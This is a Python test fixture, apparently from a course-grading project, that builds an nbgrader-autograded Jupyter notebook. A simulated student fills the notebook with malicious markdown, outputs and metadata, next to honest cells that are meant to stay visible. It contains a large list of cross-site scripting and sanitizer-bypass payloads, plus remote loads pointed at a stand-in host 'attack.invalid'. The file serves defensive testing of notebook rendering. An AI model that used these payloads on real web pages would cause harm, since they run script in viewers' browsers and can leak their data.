"""A graded notebook whose author attacks whoever opens its page, beside honest cells."""

import base64
import io
import json
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
from nbgrader.converters import Autograde
from nbgrader.preprocessors import Execute
from PIL import Image
from tiny import CHEAT, LESSON, RIGHT, hand_in, make_course

from course.grading.gradebook import Course
from course.nbgrader_glue import convert

RUN = "alert('attack')"
EVE = f"<img src=x onerror={RUN}>"  # a student's folder
FAR = "http://attack.invalid"  # no such place, in any network
SCRIPT = f"<script>{RUN}</script>"
BROKEN = f"<img src=x onerror={RUN}>"
DATA = "data:text/html;base64," + base64.b64encode(SCRIPT.encode()).decode()
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload={RUN}>{SCRIPT}</svg>"
# Each of these runs or loads something, in some browser or with some sanitizer.
HTML = [
    SCRIPT,
    BROKEN,
    f"<script src='{FAR}/a.js'></script>",
    f"<SCRIPT/x>{RUN}//",
    f"<svg onload={RUN}><image href='{FAR}/a.svg'/><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{BROKEN}'>",
    f'<svg></p><style><a id="</style>{BROKEN}">',
    f'<noscript><p title="</noscript>{BROKEN}">',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<form><math><mtext></form><form><mglyph><style></math>{BROKEN}",
    f'<a href="javascript:{RUN}">word</a>',
    f'<a href="java&#10;script:{RUN}">word</a>',
    f'<a href="&#1;JavaScript&colon;{RUN}">word</a>',
    f'<a href="/files/javascript:{RUN}">word</a>',  # nbconvert removes /files/ afterwards
    f"<a href=\"vbscript:{RUN}\">word</a><a href='{DATA}'>word</a><a href='page.html'>word</a>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe><iframe src='{FAR}/b'></iframe>",
    f"<iframe src=\"javascript:parent.{RUN}\"></iframe><iframe src='{DATA}'></iframe>",
    f"<object data='{DATA}'></object><embed src='{FAR}/c'><applet code=x></applet>",
    f'<form action="javascript:{RUN}"><input autofocus onfocus={RUN}><button>word</button></form>',
    f"<details open ontoggle={RUN}><summary>word</summary></details>",
    f"<video src=x onerror={RUN} poster='{FAR}/d.png'></video>",
    f"<audio autoplay src='{FAR}/e'></audio>",
    f"<meta http-equiv=refresh content='0;url={FAR}/f'><base href='{FAR}/'>",
    f"<link rel=stylesheet href='{FAR}/g.css'><link rel=preload as=image href='{FAR}/h.png'>",
    f"<style>@import url({FAR}/i.css); body {{ background: url({FAR}/j.png) }}</style>",
    f"<style>@keyframes k {{}} div {{ animation: k }}</style><div onanimationstart={RUN}>x</div>",
    f'<div style="background:url({FAR}/k.png)">x</div>',
    f'<div style="background:u\\72l({FAR}/l.png)">x</div>',
    f"<div style=\"background:image-set('{FAR}/m.png' 1x);cursor:url({FAR}/n.png),auto\">x</div>",
    f'<ul style="list-style-image:url({FAR}/o.png)"><li>x</li></ul>',
    '<div style="position:fixed;inset:0;background:white;z-index:9">over the page</div>',
    f"<img src='{FAR}/p.png'><img srcset='{FAR}/q.png 1x'><img src='//attack.invalid/r.png'>",
    "<img src='../../../secret.png'><img src='%2e%2e/secret.png'><img src='/secret.png'>",
    f"<table background='{FAR}/s.png'><tr><td background='{FAR}/t.png'>x</td></tr></table>",
    f"<body onload={RUN} background='{FAR}/u.png'>",
    f"<template><script>{RUN}</script></template><xmp><script>{RUN}</script></xmp>",
    "<input class=score id=10-double-test value=100><textarea class=comment></textarea>",
    "<div class='panel score comment'><span class='tabbable'>word</span></div>",
    "<a name=base_url id=base_url data-toggle=tooltip data-link=x class='btn next'>word</a>",
    f"</div></div></body></html>{SCRIPT}",
    f"<plaintext>{SCRIPT}",
]
MARKDOWN = [
    f"[word](javascript:{RUN}) [word](<java\tscript:{RUN}>) <javascript:{RUN}>",
    f"[word][ref]\n\n[ref]: javascript:{RUN}",
    f'![word](javascript:{RUN}) ![word]({FAR}/md.png) ![w" onerror="{RUN}](x)',
    f"```mermaid\n</pre>{BROKEN}\n```",
    f'```python"><img/src=x/onerror={RUN}>\n1\n```',
    f"```html\n{SCRIPT}\n```",
    f"${BROKEN}$\n\n$$\\href{{javascript:{RUN}}}{{word}}$$\n\n\\begin{{a}}{BROKEN}\\end{{a}}",
    f"# {BROKEN}",
    f"a | b\n--|--\n{BROKEN} | [word](javascript:{RUN})",
    f"\\<script>{RUN}\\</script> &lt;script&gt;",
]


def png(colour: str) -> str:
    picture = io.BytesIO()
    Image.new("RGB", (40, 20), colour).save(picture, "png")
    return base64.b64encode(picture.getvalue()).decode()


def shown(data: dict, **more: object) -> nbformat.NotebookNode:
    return new_output("display_data", data, **more)


def attacks() -> list[nbformat.NotebookNode]:
    """Cells of a student, as a kernel under the student's control could have filled them."""
    outputs = [shown({"text/html": text}) for text in HTML]
    outputs += [shown({"text/markdown": text}) for text in MARKDOWN]
    outputs += [
        shown({"text/html": SCRIPT}, metadata={"text/html": {"isolated": True}}),
        shown({"application/javascript": RUN, "text/plain": "instead of the script"}),
        shown({"image/svg+xml": SVG}),
        shown({"text/latex": f"</div>{SCRIPT}$\\href{{javascript:{RUN}}}{{word}}$"}),
        shown({"text/vnd.mermaid": f"</pre>{BROKEN}"}),
        shown({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{SCRIPT}"}}),
        shown({"image/png": f'x" onerror="{RUN}'}),
        shown({"image/png": "x"}, metadata={"image/png": {"width": f"1 onerror={RUN}"}}),
        shown({"image/png": "x"}, metadata={"filenames": {"image/png": f"{FAR}/v.png"}}),
        new_output("stream", text=f"{SCRIPT}\x1b[1m{BROKEN}\x1b[0m"),
        new_output("error", ename=SCRIPT, evalue=SCRIPT, traceback=[f"\x1b[31m{BROKEN}"]),
    ]
    code = new_code_cell(f"# {SCRIPT}", outputs=outputs, id="attack-code")
    code.execution_count = BROKEN
    code.metadata = {"tags": [f'"><script>{RUN}</script>', "x score"], "transient": {"x": 1}}
    cells = [new_markdown_cell(text) for text in [*HTML, *MARKDOWN]]
    cells += [
        new_markdown_cell("a missing one ![word](attachment:nothing.png)"),
        new_markdown_cell(
            f"{BROKEN}![word](attachment:a)",
            attachments={"a": {"text/html": base64.b64encode(SCRIPT.encode()).decode()}},
        ),
        nbformat.v4.new_raw_cell(SCRIPT, metadata={"raw_mimetype": "text/html"}),
        code,
    ]
    return cells


def honest() -> list[nbformat.NotebookNode]:
    """Cells whose content must stay visible."""
    outputs = [
        new_output("stream", text="\x1b[1;32m✓ honest stream\x1b[0m\n"),
        shown(
            {
                "text/html": "<details><summary>Each of the 2 cases</summary><table><tr>"
                '<td style="text-align: left">honest case</td></tr></table></details>'
            }
        ),
        shown(
            {
                "text/html": "<style scoped>.dataframe {}</style><table border='1'><thead><tr><th>"
                "honest column</th></tr></thead></table>"
            }
        ),
        shown({"text/html": '<div style="background:#eee;color:rgb(1, 2, 3)">honest box</div>'}),
        shown({"image/png": png("red")}, metadata={"image/png": {"width": 40, "height": 20}}),
        shown({"application/vnd.jupyter.widget-view+json": {}, "text/plain": "honest fallback"}),
        new_output("error", ename="CheckFailed", evalue="", traceback=["\x1b[31m✗ honest mistake"]),
    ]
    text = (
        "## Honest heading\n\n| a | b |\n|---|---|\n| honest | table |\n\n"
        "`x < y`, $x^2 < y$, vector<int>, [honest link](https://example.org)\n\n"
        "```python\nfor honest in code: pass\n```\n\n![beside](beside.png) ![inside](attachment:i)"
    )
    picture = {"i": {"image/png": png("blue")}}
    return [
        new_markdown_cell(text, attachments=picture),
        new_code_cell("honest_source = 1", outputs=outputs, id="honest-code"),
    ]


def graded_class(root: Path) -> None:
    """Make a course folder in which nbgrader has graded one student, who then attacks."""
    make_course(root)
    hand_in(root, EVE, RIGHT | CHEAT)
    config = Course(root).config
    steps = Autograde.autograde_preprocessors.default()
    config.Autograde.autograde_preprocessors = [step for step in steps if step is not Execute]
    convert(Autograde, root, LESSON, config=config)
    path = root / "autograded" / EVE / LESSON / f"{LESSON}.ipynb"
    path.chmod(0o644)
    notebook = nbformat.read(path, as_version=4)
    notebook.cells += [*honest(), *attacks()]
    notebook.metadata |= {"title": SCRIPT, "widgets": {"x": SCRIPT}}
    notebook.metadata.language_info = {"name": SCRIPT, "pygments_lexer": SCRIPT}
    next(cell for cell in notebook.cells if cell.id == "10-why").source = HTML[1] + MARKDOWN[0]
    path.write_text(json.dumps(notebook))  # nbformat would complain about the numbers of cells
    (path.parent / "beside.png").write_bytes(base64.b64decode(png("green")))
    (path.parent / "page.html").write_text(SCRIPT)
